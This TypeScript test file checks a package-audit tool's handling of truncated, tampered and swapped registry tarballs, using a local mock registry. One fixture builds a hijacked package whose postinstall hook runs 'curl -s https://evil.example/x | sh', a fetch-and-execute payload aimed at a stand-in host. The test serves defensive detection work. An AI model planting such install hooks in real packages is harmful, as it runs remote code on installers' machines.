import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { createServer, type Server, type Socket } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { lockfileFor, sriOf } from "./registry-server.js";
import { runCli } from "./run-cli.js";
import { buildTarball, manifest } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

/**
 * A tarball that misses the lockfile's sha512 is a critical finding: the registry, or the lockfile, was tampered with.
 * A network cutting a download short must not raise that alarm. undici notices a body cut short when its length was
 * declared (content-length) or its chunked encoding left unfinished, but not a body whose end is only the connection
 * closing, nor a chunked body that a proxy ends cleanly when its upstream drops: those arrive short and without error.
 */

type Framing = "close" | "chunked";
/** What the registry sends for the n-th request of the tarball (0 first): bytes and how their end is marked, or a status. */
type Answer = { bytes: Uint8Array; framing: Framing } | { status: number };

const PATH = "/tiny-pad/-/tiny-pad-1.0.0.tgz";
let good: Uint8Array;
let hijacked: Uint8Array;
let otherHijack: Uint8Array;
let server: Server;
let registryUrl: string;
let script: (n: number) => Answer = () => ({ status: 404 });
let tarballRequests = 0;
/** The `cache-control` header of each tarball request. */
let cacheControl: string[] = [];

/** Writes a response by hand: Node's own server always declares the body's length or finishes its chunked encoding. */
function answer(socket: Socket, reply: Answer): void {
  if ("status" in reply) {
    socket.end(`HTTP/1.1 ${reply.status} Nope\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`);
    return;
  }
  const head = "HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\nconnection: close\r\n";
  if (reply.framing === "close") {
    socket.end(Buffer.concat([Buffer.from(`${head}\r\n`), reply.bytes]));
    return;
  }
  const size = reply.bytes.length.toString(16);
  socket.end(
    Buffer.concat([Buffer.from(`${head}transfer-encoding: chunked\r\n\r\n${size}\r\n`), reply.bytes, Buffer.from("\r\n0\r\n\r\n")]),
  );
}

before(async () => {
  good = await buildTarball({ "package.json": manifest("tiny-pad"), "index.js": 'module.exports = (s) => " " + s;\n' });
  hijacked = await buildTarball({
    "package.json": manifest("tiny-pad", { postinstall: "node setup.js" }),
    "setup.js": 'require("child_process").exec("curl -s https://evil.example/x | sh");\n',
    "index.js": 'module.exports = (s) => " " + s;\n',
  });
  otherHijack = await buildTarball({ "package.json": manifest("tiny-pad"), "index.js": "module.exports = 2;\n" });
  server = createServer((socket) => {
    let head = "";
    socket.on("data", (chunk: Buffer) => {
      head += chunk.toString("latin1");
      if (!head.includes("\r\n\r\n")) return;
      const [requestLine = "", ...headers] = head.split("\r\n");
      const path = decodeURIComponent(requestLine.split(" ")[1] ?? "");
      if (path !== PATH) return answer(socket, { status: 404 });
      cacheControl.push(
        headers
          .find((h) => h.toLowerCase().startsWith("cache-control:"))
          ?.slice(14)
          .trim() ?? "(none)",
      );
      answer(socket, script(tarballRequests++));
    });
    socket.on("error", () => {});
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  registryUrl = `http://127.0.0.1:${(server.address() as { port: number }).port}/`;
});

after(() => new Promise((resolve) => server.close(resolve)));

interface Report {
  findings: Array<{ checkId: string; severity: string; message: string }>;
  tarballs?: { attempted: number; analyzed: number };
}

/** One `parapet audit --json` of a project pinning the good tarball, against a registry following `serve`. */
async function auditWith(serve: (n: number) => Answer) {
  script = serve;
  tarballRequests = 0;
  cacheControl = [];
  const dir = tempDir({
    "package.json": JSON.stringify({ name: "fixture-app", dependencies: { "tiny-pad": "1.0.0" } }),
    "package-lock.json": lockfileFor([{ name: "tiny-pad", version: "1.0.0", integrity: sriOf(good) }]),
  });
  const cache = tempDir();
  const result = await runCli([dir, "--json", "--no-metadata", "--registry", registryUrl, "--cache-dir", cache], { HOME: tempDir() });
  const report = JSON.parse(result.stdout) as Report;
  return { ...result, report, requests: tarballRequests, cacheControl, cache };
}

const cut = (bytes: Uint8Array, fraction: number) => bytes.subarray(0, Math.floor(bytes.length * fraction));

for (const framing of ["close", "chunked"] as const) {
  test(`a download cut short (${framing === "close" ? "end marked by the connection closing" : "chunked body ended early"}) is fetched again, not called tampered`, async () => {
    const run = await auditWith((n) => (n === 0 ? { bytes: cut(good, 0.5), framing } : { bytes: good, framing }));
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.deepEqual(run.report.findings, []);
    assert.deepEqual(run.report.tarballs, { attempted: 1, analyzed: 1 });
    assert.equal(run.requests, 2);
    assert.deepEqual(run.cacheControl, ["(none)", "no-cache"], "the second copy asks caches on the way for a fresh one");
  });
}

test("a registry serving the same tampered bytes twice is still a critical integrity mismatch (exit 1)", async () => {
  const run = await auditWith(() => ({ bytes: hijacked, framing: "close" }));
  assert.equal(run.code, 1, run.stderr);
  assert.deepEqual(
    run.report.findings.map((f) => [f.checkId, f.severity]),
    [["integrity-mismatch", "critical"]],
    "and the hijacked code is not analyzed as the package",
  );
  assert.match(run.report.findings[0]?.message ?? "", /same bytes on a second fetch/);
  assert.equal(run.requests, 2);
});

test("two copies that differ from each other and from the lockfile leave the package unchecked (exit 2), not tampered", async () => {
  const run = await auditWith((n) => ({ bytes: cut(good, n === 0 ? 0.3 : 0.6), framing: "close" }));
  assert.equal(run.code, 2, run.stdout + run.stderr);
  assert.deepEqual(
    run.report.findings.map((f) => f.checkId),
    ["tarball-unreadable"],
  );
  assert.match(run.report.findings[0]?.message ?? "", /two different copies/);
  assert.match(run.stderr, /none of the 1 tarballs could be fetched/);

  // Two different hijacks, one per request: unstable too, and never clean.
  const swapping = await auditWith((n) => ({ bytes: n === 0 ? hijacked : otherHijack, framing: "close" }));
  assert.equal(swapping.code, 2, swapping.stdout + swapping.stderr);
  assert.deepEqual(
    swapping.report.findings.map((f) => f.checkId),
    ["tarball-unreadable"],
  );
});

test("a mismatching copy whose second fetch fails leaves the package unchecked (exit 2) and says the first copy missed", async () => {
  const run = await auditWith((n) => (n === 0 ? { bytes: cut(good, 0.5), framing: "close" } : { status: 404 }));
  assert.equal(run.code, 2, run.stdout + run.stderr);
  assert.deepEqual(
    run.report.findings.map((f) => f.checkId),
    ["tarball-unreadable"],
  );
  assert.match(run.report.findings[0]?.message ?? "", /did not match the lockfile's integrity.*HTTP 404/);
});

test("a registry racing a hijack ahead of the good copy gets the good copy analyzed, only it cached, and the swap reported (high)", async () => {
  const run = await auditWith((n) => ({ bytes: n === 0 ? hijacked : good, framing: "close" }));
  assert.equal(run.code, 1, run.stdout + run.stderr);
  // The hijack's postinstall would be an install-script finding, and its curl | sh malicious code, had it been analyzed:
  // the one finding is that other bytes were served once.
  assert.deepEqual(
    run.report.findings.map((f) => [f.checkId, f.severity]),
    [["tarball-altered-in-transit", "high"]],
  );
  const stored = readdirSync(join(run.cache, "sha512"), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => entry.name);
  const hex = (bytes: Uint8Array) => Buffer.from(sriOf(bytes).slice(7), "base64").toString("hex");
  assert.deepEqual(stored, [hex(good)]);
});
